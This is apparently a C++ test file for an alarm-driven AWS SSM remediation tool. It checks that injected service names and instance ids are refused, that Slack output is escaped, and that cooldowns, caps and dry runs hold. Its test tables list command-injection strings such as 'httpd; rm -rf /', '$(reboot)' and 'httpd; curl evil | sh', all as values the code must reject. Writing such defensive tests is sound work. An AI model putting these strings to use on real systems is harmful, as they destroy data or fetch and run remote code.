// The guardrails of issue 18 against the scripted SSM stand-in: values refused before anything is
// sent (the injection table), transitions that are not acted on, one command per state change,
// the cooldown, the hourly cap, dry runs, the bounded memory. Time is the test's clock.
#include "stand_in_fixture.hpp"

#include <alarmbridge/remediate/state_store.hpp>
#include <alarmbridge/slack/validate.hpp>

using alarmbridge::remediate::decision_kind;
using alarmbridge::test::seed_event;
using alarmbridge::test::set_dimension;

namespace {

const std::string enforce = alarmbridge::test::remediate_data("policy-enforce.json");

/// The enforce policy with other numbers for the cooldown and the cap.
std::string enforce_with(int cooldown, int cap) {
    auto p = nlohmann::json::parse(enforce);
    p["rules"][0]["cooldown_seconds"] = cooldown;
    p["rules"][0]["max_per_hour"] = cap;
    return p.dump();
}

/// The seed alarm as a new state change at the given time.
std::string change_at(const std::string& when) {
    return seed_event([&](nlohmann::json& a) { a["StateChangeTime"] = when; });
}

/// Whether value holds what could act in Slack text or break its line: markup, a line break, a
/// backtick, a character outside ASCII.
bool live_in_slack(const std::string& value) {
    for (char c : value) {
        const auto u = static_cast<unsigned char>(c);
        if (u < 0x20 || u >= 0x7f || c == '<' || c == '>' || c == '&' || c == '`') return true;
    }
    return false;
}

/// No text of the message can make a link, a mention, a date or a code span end early: no '<'
/// or '>' at all (every one from outside is &lt; / &gt;), and a value that holds markup, a line
/// break, a backtick or a non-ASCII character never appears as it came.
void expect_inert(const alarmbridge::slack::message& m, const std::string& raw_value) {
    EXPECT_TRUE(alarmbridge::slack::validate(m).empty());
    for (const auto& text : alarmbridge::test::message_texts(m)) {
        EXPECT_EQ(text.find('<'), std::string::npos) << text;
        EXPECT_EQ(text.find('>'), std::string::npos) << text;
        if (live_in_slack(raw_value)) {
            EXPECT_EQ(text.find(raw_value), std::string::npos) << text;
        }
    }
}

}  // namespace

using remediate_guardrails = alarmbridge::test::stand_in_fixture;

TEST_F(remediate_guardrails, the_seed_alarm_sends_one_restart_in_the_alarms_region) {
    auto r = make(enforce, "success");
    const auto d = run(r, seed_event());
    ASSERT_EQ(d.size(), 1u);
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(d[0].status, "Success");
    EXPECT_FALSE(d[0].failed);
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"rule":"restart-on-procstat","decision":"sent","reason":"sent; the command ended Success",)"
              R"("instance":"i-03e6aec1a93443558","document":"alarmbridge-RestartService","parameters":{"ServiceName":["httpd"]},)"
              R"("command_id":")" + key + R"(-command-1","status":"Success"})");
    const auto got = received();
    ASSERT_GE(got.size(), 2u);
    EXPECT_EQ(got[0]["target"], "AmazonSSM.SendCommand");
    EXPECT_EQ(got[0]["region"], "ap-northeast-2");  // the alarm's, from its ARN, not AWS_REGION
    const auto& body = got[0]["body"];
    EXPECT_EQ(body["DocumentName"], "alarmbridge-RestartService");
    EXPECT_EQ(body["InstanceIds"], nlohmann::json::array({"i-03e6aec1a93443558"}));
    EXPECT_EQ(body["Parameters"], nlohmann::json::parse(R"({"ServiceName":["httpd"]})"));
    EXPECT_EQ(body["TimeoutSeconds"], 600);
    EXPECT_NE(body["Comment"].get<std::string>().find("jisoo-test-cw"), std::string::npos);
    EXPECT_LE(body["Comment"].get<std::string>().size(), 100u);
    EXPECT_EQ(got[1]["target"], "AmazonSSM.GetCommandInvocation");
    EXPECT_EQ(got[1]["body"]["CommandId"], key + "-command-1");
}

TEST_F(remediate_guardrails, every_value_of_the_injection_table_is_refused_with_its_reason_and_nothing_is_sent) {
    struct row {
        std::string value;
        std::string reason;
    };
    const std::vector<row> table{
        {"httpd; rm -rf /", "holds ';'"},
        {"httpd rm", "holds a space"},
        {"httpd<!channel>", "holds '<'"},
        {"httpd;reboot", "holds ';'"},
        {"$(reboot)", "holds '$'"},
        {"`reboot`", "holds '`'"},
        {"httpd\nreboot", "holds a newline"},
        {"httpd\rreboot", "holds a carriage return"},
        {"httpd'", "holds '''"},
        {"httpd\"", "holds '\"'"},
        {"-httpd", "starts with '-'"},
        {"--help", "starts with '-'"},
        {std::string(65, 'h'), "longer than 64 bytes"},
        {"\xD2\xBBttpd", "outside ASCII"},          // U+04BB CYRILLIC SMALL LETTER SHHA, looks like h
        {"\xEF\xBD\x88ttpd", "outside ASCII"},      // U+FF48 FULLWIDTH LATIN SMALL LETTER H
        {"httpd\xE2\x80\x8B", "outside ASCII"},     // a zero-width space after the name
        {"httpd|sh", "holds '|'"},
        {"../../bin/sh", "holds '/'"},
        {"", "is empty"},
        {"nginx-evil", "not on the rule's allowlist"},  // a plain name, but not an allowed one
    };
    auto r = make(enforce, "success");
    for (std::size_t i = 0; i < table.size(); ++i) {
        const auto d = run(r, seed_event([&](nlohmann::json& a) {
            set_dimension(a, "exe", table[i].value);
            a["StateChangeTime"] = "2022-06-28T01:57:" + std::to_string(10 + i) + ".000+0000";
        }));
        ASSERT_EQ(d.size(), 1u);
        SCOPED_TRACE(i);
        EXPECT_EQ(d[0].kind, decision_kind::skipped);
        EXPECT_NE(d[0].reason.find("refused"), std::string::npos) << d[0].reason;
        EXPECT_NE(d[0].reason.find(table[i].reason), std::string::npos) << d[0].reason;
        EXPECT_TRUE(d[0].parameters.empty());
        EXPECT_FALSE(d[0].command_id.has_value());
        EXPECT_TRUE(d[0].notify);  // Slack is told
        const auto m = alarmbridge::remediate::outcome_message(d[0]);
        expect_inert(m, table[i].value);
        EXPECT_NE(m.text->find("No remediation"), std::string::npos);
    }
    EXPECT_TRUE(received().empty());  // not one request reached SSM
}

TEST_F(remediate_guardrails, an_instance_id_that_is_not_one_is_refused) {
    auto r = make(enforce, "success");
    const std::vector<std::string> ids{"i-03e6aec1a93443558; reboot", "i-03E6AEC1A93443558", "i-0123456", "i-0123456789abcdef01",
                                       "$(reboot)", "mi-03e6aec1a93443558", "i-03e6aec1a9344355g"};
    for (std::size_t i = 0; i < ids.size(); ++i) {
        const auto d = run(r, seed_event([&](nlohmann::json& a) {
            set_dimension(a, "InstanceId", ids[i]);
            a["StateChangeTime"] = "2022-06-28T01:58:" + std::to_string(10 + i) + ".000+0000";
        }));
        EXPECT_EQ(d[0].kind, decision_kind::skipped) << ids[i];
        EXPECT_NE(d[0].reason.find("is not an instance id"), std::string::npos) << d[0].reason;
        expect_inert(alarmbridge::remediate::outcome_message(d[0]), ids[i]);
    }
    EXPECT_TRUE(received().empty());
}

TEST_F(remediate_guardrails, a_permissive_pattern_still_lets_no_shell_text_through) {
    const std::string policy = R"({"mode": "enforce", "rules": [{"name": "custom",
        "match": {"namespace": "CWAgent"},
        "action": {"run_document": {"document": "Team-RestartService",
                   "parameters": {"Unit": {"from_dimension": "exe", "allowed_pattern": "^.*$"}}}}}]})";
    auto r = make(policy, "success");
    auto refused = run(r, seed_event([](nlohmann::json& a) { set_dimension(a, "exe", "httpd; curl evil | sh"); }));
    EXPECT_EQ(refused[0].kind, decision_kind::skipped);
    EXPECT_TRUE(received().empty());
    auto sent = run(r, seed_event([](nlohmann::json& a) { a["StateChangeTime"] = "2022-06-28T02:00:00.000+0000"; }));
    ASSERT_EQ(sent[0].kind, decision_kind::sent) << sent[0].reason;
    const auto got = received();
    EXPECT_EQ(got[0]["body"]["DocumentName"], "Team-RestartService");
    EXPECT_EQ(got[0]["body"]["Parameters"], nlohmann::json::parse(R"({"Unit":["httpd"]})"));
}

TEST_F(remediate_guardrails, ok_and_insufficient_data_and_a_repeated_alarm_state_do_nothing) {
    auto r = make(enforce, "success");
    const std::vector<std::pair<std::string, std::string>> transitions{
        {"ALARM", "OK"}, {"OK", "INSUFFICIENT_DATA"}, {"ALARM", "INSUFFICIENT_DATA"}, {"ALARM", "ALARM"}};
    for (const auto& [from, to] : transitions) {
        const auto d = run(r, seed_event([&, from = from, to = to](nlohmann::json& a) {
            a["OldStateValue"] = from;
            a["NewStateValue"] = to;
        }));
        EXPECT_EQ(d[0].kind, decision_kind::skipped) << from << "->" << to;
        EXPECT_EQ(d[0].rule, "restart-on-procstat");
        EXPECT_FALSE(d[0].notify);  // nothing for Slack either
        EXPECT_FALSE(d[0].failed);
    }
    EXPECT_TRUE(received().empty());
}

TEST_F(remediate_guardrails, a_rule_may_act_on_insufficient_data) {
    auto p = nlohmann::json::parse(enforce);
    p["rules"][0]["on_states"] = {"INSUFFICIENT_DATA"};
    auto r = make(p.dump(), "success");
    EXPECT_EQ(run(r, seed_event())[0].kind, decision_kind::skipped);
    const auto d = run(r, seed_event([](nlohmann::json& a) { a["NewStateValue"] = "INSUFFICIENT_DATA"; }));
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST_F(remediate_guardrails, an_alarm_no_rule_matches_is_left_alone_quietly) {
    auto r = make(enforce, "success");
    const auto d = run(r, seed_event([](nlohmann::json& a) { a["Trigger"]["Namespace"] = "AWS/EC2"; }));
    EXPECT_EQ(d[0].kind, decision_kind::skipped);
    EXPECT_FALSE(d[0].rule.has_value());
    EXPECT_FALSE(d[0].notify);
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"decision":"skipped","reason":"no rule matches the alarm"})");
}

TEST_F(remediate_guardrails, repeated_deliveries_of_one_state_change_send_one_command) {
    auto r = make(enforce, "success");
    // SNS delivering the same notification three times, once as a two-record event.
    auto event = nlohmann::json::parse(seed_event());
    event["Records"].push_back(event["Records"][0]);
    const auto first = run(r, event.dump());
    const auto again = run(r, seed_event());
    ASSERT_EQ(first.size(), 2u);
    EXPECT_EQ(first[0].kind, decision_kind::sent);
    EXPECT_EQ(first[1].kind, decision_kind::skipped);
    EXPECT_NE(first[1].reason.find("already acted on"), std::string::npos);
    EXPECT_FALSE(first[1].notify);
    EXPECT_EQ(again[0].kind, decision_kind::skipped);
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST_F(remediate_guardrails, the_cooldown_holds_per_instance_and_service) {
    auto r = make(enforce_with(600, 10), "success");
    EXPECT_EQ(run(r, change_at("2022-06-28T01:57:35.603+0000"))[0].kind, decision_kind::sent);
    time->advance(std::chrono::seconds(60));
    const auto cooling = run(r, change_at("2022-06-28T01:58:35.603+0000"));
    EXPECT_EQ(cooling[0].kind, decision_kind::skipped);
    EXPECT_NE(cooling[0].reason.find("cooldown"), std::string::npos);
    EXPECT_TRUE(cooling[0].notify);  // Slack is told why
    // Another service on the same instance is not cooling down.
    const auto other = run(r, seed_event([](nlohmann::json& a) {
        set_dimension(a, "exe", "nginx");
        a["StateChangeTime"] = "2022-06-28T01:58:40.000+0000";
    }));
    EXPECT_EQ(other[0].kind, decision_kind::sent) << other[0].reason;
    time->advance(std::chrono::seconds(600));
    EXPECT_EQ(run(r, change_at("2022-06-28T02:08:35.603+0000"))[0].kind, decision_kind::sent);
    EXPECT_EQ(count("SendCommand"), 3);
}

TEST_F(remediate_guardrails, the_hourly_cap_leaves_a_flapping_service_alone) {
    auto r = make(enforce_with(60, 3), "success");
    int minute = 0;
    auto next_change = [&] {
        time->advance(std::chrono::seconds(61));
        const int m = minute++;
        return change_at("2022-06-28T02:" + std::string(m < 10 ? "0" : "") + std::to_string(m) + ":00.000+0000");
    };
    for (int i = 0; i < 3; ++i) EXPECT_EQ(run(r, next_change())[0].kind, decision_kind::sent) << i;
    auto capped = run(r, next_change());
    EXPECT_EQ(capped[0].kind, decision_kind::skipped);
    EXPECT_NE(capped[0].reason.find("hourly cap"), std::string::npos) << capped[0].reason;
    EXPECT_TRUE(capped[0].notify);
    // Capped 10 s later: still the cap, not the cooldown (a capped change does not start one).
    time->advance(std::chrono::seconds(10));
    capped = run(r, change_at("2022-06-28T02:30:00.000+0000"));
    EXPECT_NE(capped[0].reason.find("hourly cap"), std::string::npos) << capped[0].reason;
    EXPECT_EQ(count("SendCommand"), 3);
    time->advance(std::chrono::seconds(3600));
    EXPECT_EQ(run(r, change_at("2022-06-28T03:40:00.000+0000"))[0].kind, decision_kind::sent);
    EXPECT_EQ(count("SendCommand"), 4);
}

TEST_F(remediate_guardrails, a_dry_run_sends_nothing_and_says_what_would_have_run) {
    for (bool forced : {false, true}) {
        auto r = make(forced ? enforce : alarmbridge::test::remediate_data("policy-dry-run.json"), "success", forced);
        const auto d = run(r, seed_event());
        EXPECT_EQ(d[0].kind, decision_kind::dry_run);
        EXPECT_EQ(alarmbridge::remediate::to_json(d[0])["parameters"].dump(), R"({"ServiceName":["httpd"]})");
        EXPECT_EQ(d[0].instance, "i-03e6aec1a93443558");
        EXPECT_FALSE(d[0].command_id.has_value());
        EXPECT_FALSE(d[0].failed);
        const auto m = alarmbridge::remediate::outcome_message(d[0]);
        expect_inert(m, "");
        EXPECT_NE(m.text->find("would run `alarmbridge-RestartService` (ServiceName=httpd) on `i-03e6aec1a93443558`"),
                  std::string::npos)
            << *m.text;
        EXPECT_NE(m.text->find("nothing was sent"), std::string::npos) << *m.text;
        EXPECT_TRUE(received().empty());
    }
}

TEST_F(remediate_guardrails, one_decision_per_record_whatever_the_record_holds) {
    auto r = make(enforce, "success");
    auto event = nlohmann::json::parse(seed_event());
    auto text = event["Records"][0];
    text["Sns"]["Message"] = "Hello from SNS <!channel>";
    auto broken = event["Records"][0];
    broken["Sns"].erase("Message");
    event["Records"].push_back(text);
    event["Records"].push_back(broken);
    const auto d = run(r, event.dump());
    ASSERT_EQ(d.size(), 3u);
    EXPECT_EQ(d[0].kind, decision_kind::sent);
    EXPECT_EQ(d[1].record, 1u);
    EXPECT_EQ(d[1].kind, decision_kind::skipped);
    EXPECT_EQ(d[1].reason, "not an alarm (an SNS text message)");
    EXPECT_EQ(d[2].kind, decision_kind::skipped);
    EXPECT_NE(d[2].reason.find("could not be read"), std::string::npos) << d[2].reason;
    EXPECT_FALSE(d[1].notify || d[2].notify || d[1].failed || d[2].failed);
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST(remediate_memory, the_in_process_memory_is_bounded_and_forgets_only_what_expired) {
    auto store = alarmbridge::remediate::make_memory_state_store(16);
    for (int i = 0; i < 8; ++i) EXPECT_TRUE(*store->claim("short" + std::to_string(i), 0, 10));
    for (int i = 0; i < 8; ++i) EXPECT_TRUE(*store->claim("long" + std::to_string(i), 0, 1000));
    auto full = store->claim("one-more", 5, 100);  // everything still live: refused, nothing forgotten
    ASSERT_FALSE(full);
    EXPECT_EQ(full.error().code, alarmbridge::errc::too_large);
    EXPECT_FALSE(*store->claim("long0", 5, 100));
    EXPECT_TRUE(*store->claim("one-more", 20, 100));  // the expired short ones made room
    EXPECT_FALSE(*store->claim("long7", 20, 100));
    EXPECT_TRUE(*store->release("long7"));
    EXPECT_TRUE(*store->claim("long7", 20, 100));
}
